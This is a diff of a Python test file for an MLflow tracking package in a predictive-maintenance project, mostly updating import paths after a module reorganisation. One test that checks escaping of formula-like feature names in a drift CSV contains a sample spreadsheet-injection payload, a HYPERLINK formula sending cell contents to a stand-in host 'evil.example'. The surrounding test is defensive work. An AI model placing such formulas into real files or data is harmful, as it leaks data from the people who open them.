@@ -8,7 +8,7 @@ import pandas as pd
 import pytest
 from mlflow.types.utils import _infer_schema
 
-from cmms_mlflow.training_run import SCHEMA_SAMPLE_ROWS, _dataset, _dataset_input, dataset_schema
+from cmms_mlflow.tracking.training_run import SCHEMA_SAMPLE_ROWS, _dataset, _dataset_input, dataset_schema
 from cmms_pm.data import generate_telemetry
 
 
@@ -76,9 +76,9 @@ def test_training_frames_are_gone_and_their_memory_released_while_the_classifier
     from mlflow import MlflowClient
 
     import cmms_pm.data
-    from cmms_mlflow.client_context import client_settings
-    from cmms_mlflow.hooks import MlflowHook
-    from cmms_mlflow.training_run import log_training_run
+    from cmms_mlflow.hooks.client_context import client_settings
+    from cmms_mlflow.hooks.mlflow_hook import MlflowHook
+    from cmms_mlflow.tracking.training_run import log_training_run
     from cmms_pm import training
 
     events, frames = [], []
@@ -119,7 +119,7 @@ def test_a_drift_table_with_formula_feature_names_is_logged_escaped(client, tmp_
     reaches drift.csv, which people open in a spreadsheet."""
     import csv
 
-    from cmms_mlflow.training_run import log_checks
+    from cmms_mlflow.tracking.training_run import log_checks
     from cmms_pm.drift import DriftReport, FeatureDrift
 
     evil = '=HYPERLINK("http://evil.example/?leak="&A2,"details")'
